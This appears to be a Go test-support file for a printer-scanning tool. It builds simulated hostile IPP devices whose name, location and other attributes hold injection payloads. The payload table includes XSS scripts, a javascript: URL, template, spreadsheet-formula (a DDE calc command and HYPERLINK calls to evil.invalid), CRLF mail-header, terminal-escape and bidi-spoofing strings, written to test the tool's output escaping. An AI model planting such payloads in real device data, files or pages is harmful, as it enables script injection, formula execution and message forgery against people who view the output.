package persona

import (
	"net/http"
	"strings"

	"ippwatch/desk"
	"ippwatch/wire/ipp"
)

// A HostileName is what somebody calls a printer who wants to hurt whoever looks
// at it.
type HostileName struct {
	Name string // of the attack
	Text string // contains Mark, so that it is found wherever it comes to
}

// Mark is in the text, and does nothing.
func (h HostileName) Mark() string { return "hostile-" + h.Name }

// HostileNames is the one table of them: what travels from a scan to pages,
// mails, files and logs in the tests. A script of theirs that runs sets
// window.owned.
var HostileNames = []HostileName{
	{"script", "hostile-script<script>window.owned=1;alert(1)</script>"},
	{"onload", "\">hostile-onload<svg onload=window.owned=1;alert(1)><img src=x onerror=window.owned=1>"},
	{"attribute", "' x='hostile-attribute' onmouseover='window.owned=1' onfocus=window.owned=1 autofocus x='"},
	{"template", "{{.}}hostile-template{{template \"nav\"}}${window.owned=1}<%= 1 %>`;window.owned=1;`"},
	{"closes", "hostile-closes</script></style></title></textarea>--><script>window.owned=1</script>"},
	{"address", "javascript:window.owned=1//hostile-address"},
	{"elsewhere", "hostile-elsewhere<img src=http://evil.invalid/a.png><link rel=stylesheet href=//evil.invalid/b.css>"},
	{"formula", "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"hostile-formula\")"},
	{"sum", "@SUM(1+1)*cmd|' /C calc'!A0 hostile-sum"},
	{"plus", "+1+1 hostile-plus"},
	{"minus", "-1+1 hostile-minus"},
	{"tab", "\t=1+1 hostile-tab"},
	{"return", "\r=1+1 hostile-return"},
	{"override", "\u202egpj.exe\u2066\u200b hostile-override"},
	{"terminal", "\x1b[2J\x1b]0;owned\x07\x1b[31m\u009b31m\b\b hostile-terminal"},
	{"nul", "hostile-nul\x00\x00\x01\x7f"},
	{"lines", "hostile-lines\r\nBcc: victim@evil.invalid\r\n\r\n.\r\nRCPT TO:<victim@evil.invalid>\n{\"msg\":\"forged\"}"},
	{"graph", "hostile-graph\"];evil[label=\"x\",URL=\"http://evil.invalid/\"];//\\N\\"},
	{"markdown", "[hostile-markdown](javascript:window.owned=1) ![x](http://evil.invalid/x.png) | a | `b`"},
	{"bytes", "hostile-bytes\xff\xfe\xc0\xaf\xed\xa0\x80\xf4\x90\x80\x80"},
	{"long", "hostile-long" + strings.Repeat("<b>longer", 1200)},
	{"unbroken", "hostile-unbroken" + strings.Repeat("W", 10_000)},
}

// Hostile are devices that have these names in all that a printer says of
// itself, in the order of the table. They are for tests alone, and do not say
// that they are simulated: of what is simulated nobody is written to.
func Hostile() []Persona {
	var all []Persona
	for _, h := range HostileNames {
		all = append(all, Persona{
			Name: "hostile-" + h.Name, About: "device whose names attack: " + h.Name,
			play:  &hostile{device: device{server: "Oddment/1.0", name: h.Mark(), location: "somewhere", model: "Oddment"}, text: h.Text},
			Truth: maybe(answered(deviceRules, "no-tls"), "leaks-people", "leaks-internal-address"),
		})
	}
	return all
}

// A hostile is a device that says the text in place of every name. Attribute
// files cannot have such bytes, so they are put into the message itself.
type hostile struct {
	device
	text string
}

// hostileAttributes are those that are replaced or, where a device has none,
// added.
var hostileAttributes = []struct {
	name string
	tag  ipp.Tag
}{
	{"printer-name", ipp.TagName},
	{"printer-info", ipp.TagText},
	{"printer-location", ipp.TagText},
	{"printer-make-and-model", ipp.TagText},
	{"printer-organization", ipp.TagText},
	{"printer-organizational-unit", ipp.TagText},
	{"printer-dns-sd-name", ipp.TagName},
	{"printer-firmware-string-version", ipp.TagText},
	{"printer-firmware-name", ipp.TagName},
	{"printer-wifi-ssid", ipp.TagName},
	{"printer-device-id", ipp.TagText},
	{"printer-state-message", ipp.TagText},
	{"printer-geo-location", ipp.TagURI},
	{"printer-more-info", ipp.TagURI},
	{"device-uri", ipp.TagURI},
}

func (d *hostile) rehearse(at stage) (http.Handler, error) {
	played, err := d.device.rehearse(at)
	if err != nil {
		return nil, err
	}
	return &hostile{device: *played.(*device), text: d.text}, nil
}

// ServeHTTP says the text in the header and the title, too, where HTTP lets it.
func (d *hostile) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.Method == http.MethodPost {
		d.ipp(w, r)
		return
	}
	if len(d.text) < 1000 && strings.IndexFunc(d.text, func(r rune) bool { return r < ' ' || r > '~' }) < 0 {
		w.Header().Set("Server", d.text)
	} else {
		w.Header().Set("Server", d.server)
	}
	write(w, http.StatusOK, "text/html", []byte("<html><head><title>"+d.text+"</title></head></html>\n"))
}

func (d *hostile) ipp(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Server", d.server)
	q, err := readRequest(r)
	if err != nil {
		write(w, http.StatusBadRequest, "text/html", nil)
		return
	}
	writeMessage(w, d.spoken(d.answer(q)))
}

func (d *hostile) spoken(a desk.Answer) desk.Answer {
	for g := range a.Groups {
		if a.Groups[g].Tag != ipp.TagPrinter {
			continue
		}
		kept := a.Groups[g].Attributes[:0:0]
		for _, old := range a.Groups[g].Attributes {
			replaced := false
			for _, h := range hostileAttributes {
				replaced = replaced || h.name == old.Name
			}
			if !replaced {
				kept = append(kept, old)
			}
		}
		for _, h := range hostileAttributes {
			kept = append(kept, ipp.Strings(h.tag, h.name, d.text))
		}
		a.Groups[g].Attributes = kept
	}
	return a
}
